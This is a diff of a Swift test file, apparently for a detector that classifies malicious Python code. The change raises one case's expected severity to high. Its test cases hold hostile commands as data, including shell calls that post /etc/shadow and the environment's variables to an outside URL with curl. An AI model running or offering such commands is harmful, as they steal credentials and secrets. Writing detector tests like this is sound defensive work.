@@ -216,7 +216,7 @@ import Testing
         CodeCase("a boast", "import os\nos.system('echo you have been pwned')", "python-proof-of-concept", .high),
         CodeCase("the user's name", "import os\nos.system('whoami')", "python-reconnaissance", .high, isEntry: true),
         CodeCase(
-            "the user's name, where only an import runs it", "import os\nos.system('whoami')", "python-reconnaissance", .medium),
+            "the user's name, where only an import runs it", "import os\nos.system('whoami')", "python-reconnaissance", .high),
         CodeCase("a secret by curl", "import os\nos.system('curl -d @/etc/shadow \(u)')", "python-credential-theft"),
         CodeCase(
             "the environment by curl", "import os\nos.system('env | curl -X POST --data-binary @- \(u)')",
